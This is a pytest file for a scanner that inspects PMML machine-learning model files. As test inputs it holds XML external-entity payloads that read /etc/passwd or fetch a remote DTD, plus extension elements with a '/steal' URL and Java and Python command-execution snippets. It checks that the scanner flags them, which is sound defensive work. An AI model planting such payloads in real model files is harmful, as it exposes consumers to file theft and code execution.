"""PMML: what its declarations, its functions and its extensions make consumers do."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from garrison.core.facts import Artifact
from tests.support import examine_bytes, facts_of, findings_of, worst

BODY = """<PMML xmlns="http://www.dmg.org/PMML-4_4" xmlns:data="http://jpmml.org/jpmml-model/InlineTable" version="4.4">
 <Header><Application name="SkLearn2PMML package" version="0.91.0"/><Timestamp>2024-01-01T00:00:00Z</Timestamp></Header>
 <DataDictionary><DataField name="y" optype="categorical" dataType="integer"/><DataField name="x" dataType="double"
  optype="continuous"/></DataDictionary>
 <TransformationDictionary><DefineFunction name="twice" optype="continuous"><ParameterField name="v"/>
  <Apply function="*"><Constant>2</Constant><FieldRef field="v"/></Apply></DefineFunction></TransformationDictionary>
 <TreeModel functionName="classification"><Extension extender="jpmml" name="x-reportTable" value="true"/>
  <Node score="1"><True/><Extension><data:row>plain</data:row></Extension></Node></TreeModel>
</PMML>"""
HONEST = "<?xml version='1.0' encoding='UTF-8' standalone='yes'?>\n" + BODY


def rules(text: str) -> list[tuple[str, str]]:
    return [(item.rule, item.severity) for item in findings_of(text.encode(), "model.pmml")]


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_an_honest_model_gives_no_finding(encoding: str) -> None:
    data = HONEST.replace("UTF-8", encoding.upper()).encode(encoding)
    assert findings_of(data, "model.pmml") == []
    (artifact,) = [f for f in facts_of(data) if isinstance(f, Artifact)]
    assert artifact.details == {
        "version": "4.4",
        "application": "SkLearn2PMML package 0.91.0",
        "fields": 2,
        "models": "TreeModel",
    }


def test_a_document_without_a_declaration_is_recognised() -> None:
    assert examine_bytes(BODY.encode())[-1].formats == ["pmml"]


@pytest.mark.parametrize(
    "declaration",
    ['<!ENTITY e SYSTEM "file:///etc/passwd">', '<!ENTITY % e SYSTEM "http://192.0.2.1/x.dtd"> %e;'],
)
def test_external_entities_are_denied(declaration: str) -> None:
    document = f"<?xml version='1.0'?>\n<!DOCTYPE PMML [ {declaration} ]>\n{BODY}"
    assert worst(findings_of(document.encode(), "model.pmml")) == "high"
    assert "xml-external-entity" in {rule for rule, _ in rules(document)}
    assert "format-mismatch" not in {rule for rule, _ in rules(document)}


def test_functions_that_are_java_classes_are_named() -> None:
    document = HONEST.replace('function="*"', 'function="com.example.Custom"')
    assert rules(document) == [("java-class", "low")]


@pytest.mark.parametrize(
    "extension",
    [
        '<Extension value="http://192.0.2.1/steal"/>',
        "<Extension><script>Runtime.getRuntime().exec('id')</script></Extension>",
        "<Extension name=\"hook\" value=\"__import__('os').system('id')\"/>",
    ],
)
def test_extensions_that_hold_programs_or_addresses_are_odd(extension: str) -> None:
    document = HONEST.replace("<True/>", f"<True/>{extension}")
    assert rules(document) == [("pmml-extension", "low")]


@settings(max_examples=150, deadline=None)
@given(st.data())
def test_damaged_documents_never_raise(data: st.DataObject) -> None:
    raw = bytearray(HONEST.encode())
    for _ in range(data.draw(st.integers(0, 4))):
        raw[data.draw(st.integers(0, len(raw) - 1))] = data.draw(st.integers(0, 255))
    cut = bytes(raw[: data.draw(st.integers(0, len(raw)))])
    assert all(e.state != "failed" for e in examine_bytes(cut))
